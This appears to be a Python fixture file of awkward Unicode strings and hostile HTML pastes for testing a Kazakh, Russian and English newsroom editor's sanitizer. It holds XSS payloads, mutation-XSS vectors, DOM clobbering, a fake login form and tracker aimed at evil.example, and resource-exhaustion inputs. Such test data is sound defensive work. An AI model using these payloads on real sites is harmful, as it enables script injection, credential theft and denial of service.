"""Words and pastes that a newsroom in Kazakh, Russian and English meets, kind and unkind."""

AWKWARD_WORDS = [
    "",
    " ",
    "Өңірлік үлгі қоғам: ұжым, үміт, һәм іс",
    "ӘҒҚҢӨҰҮҺІ",
    "Ülgı qoğamı, şyñ, ğalym",
    "Мысал Mысал Мыcал",
    "Й\u0306огурт е\u0308лка И\u0306",
    "О'Сынак-Д’Үлгі",
    "Ә" * 400,
    "\u0301" * 60 + "а",
    "Есеп \u202egpj.exe \u2067ашық",
    "اجتماع تجريبي",
    "Сы\u200bнақ\u2060\ufeff",
    "бірінші\u2028екінші\u2029үшінші\x85",
    "тақырып\r\nX-Сынақ: 1\r\n\r\nмәтін",
    "дейін\x00кейін\x08\x0b\x0c\x1f\x7f",
    "жарты \ud83d белгі",
    "\ufffe\uffff",
    "👩🏽‍💻👨‍👩‍👧🇰🇿",
    "𐰴𐰔 𝔐𝔶𝔰𝔞𝔩",
    "<b>Үлгі</b> & «мысал» \"' &amp; &lt;i&gt;",
    "{{ сынақ }} {% үлгі %} ${7*7} %(x)s",
    "</script><script>alert(1)</script><!--",
    "]]><x>",
    "«…» — !?",
    "Сынақ!!! — №1",
    "../../мысал",
    "9" * 300,
    "үлгі " * 3000,
    "Ъ",
    "ﬁ ß İ ı Ǆ №",
]

HOSTILE_PASTES = {
    "script": "<p>Үлгі</p><script>alert(1)</script>",
    "handler": '<p onclick="alert(1)">Үлгі</p><img src=/a.png onerror=alert(1)>',
    "link that runs": '<a href="java\tscript:alert(1)">а</a><a href="&#1;javascript:alert(2)">б</a>'
    '<a href="JaVaScRiPt&colon;alert(3)">в</a><a href="java&#x202e;script:alert(4)">г</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">Үлгі</a>',
    "mutation in math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation in noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation in textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "mutation in svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "clobbering": "<a id=csrfmiddlewaretoken>Үлгі</a><form name=body><input name=attributes></form>"
    "<img name=cookie src=/a.png>",
    "overlay": '<a href="https://example.org" style="position:fixed;inset:0">&nbsp;</a>',
    "login form": '<form action="//evil.example"><input type=password><button>Кіру</button></form>',
    "base and refresh": '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//a"><p>Үлгі</p>',
    "style": "<style>body{display:none}</style><p style='background:url(//evil.example)' class=modal>Үлгі</p>",
    "frame": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>Үлгі</p>',
    "tracker": '<p>Үлгі<img src="https://evil.example/pixel.gif" width=1 height=1></p>',
    "screenshot": '<p>Үлгі</p><img src="data:image/png;base64,' + "A" * 60_000 + '">',
    "closing the page": "</article></main></body></html><p>Үлгі<!-- ашық түсініктеме",
    "unclosed": "<div><p><b><i><a href=/x>" * 40 + "Үлгі",
    "levels": "<div>" * 5000 + "Үлгі" + "</div>" * 5000,
    "levels of quotation": "<blockquote>" * 300 + "Үлгі",
    "emphasis": "<b>" * 2000 + "Үлгі" + "</b>" * 2000,
    "emphasis with attributes": "<p>" + "".join(f"<b a={n}>" for n in range(1000)) + "<p>Үлгі" * 1000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">Үлгі</p>",
    "absurd cells": "<table><tr><td colspan=99999999 rowspan=0>Үлгі</td></tr></table>",
    "loose parts": "<li>Үлгі</li><figcaption>мысал</figcaption><td>сынақ</td><caption>а</caption>",
    "invisible": "<p>&nbsp;&nbsp;</p><p>\u200b\ufeff</p><h2></h2><p><br></p><p>&#x202e;Үлгі&#0;&#8;</p>",
    "megabyte": "<p>" + "үлгі " * 100_000 + "</p>",
    "entities": "&amp;" * 20_000,
}

WORD_PARAGRAPHS = (
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15">'
    "<title>Құжат</title><style><!-- p.MsoNormal {margin:0cm;} --></style>"
    "<!--[if gte mso 9]><xml><w:View>Normal</w:View></xml><![endif]--></head><body lang=KZ>"
    '<p class=MsoNormal style="line-height:107%"><b><span lang=KZ style="font-size:14pt">Үлгі ауданының жиыны'
    "<o:p></o:p></span></b></p><p class=MsoNormal><span lang=RU>Мысал <i>қатар</i> мәтін<o:p>&nbsp;</o:p></span></p>"
    "<p class=MsoNormal><o:p>&nbsp;</o:p></p></body></html>"
)
GOOGLE_DOCS_PARAGRAPH = (
    '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr" style="margin:0">'
    '<span style="font-size:11pt">Мысал мәтін</span></p></b><br class="Apple-interchange-newline">'
)
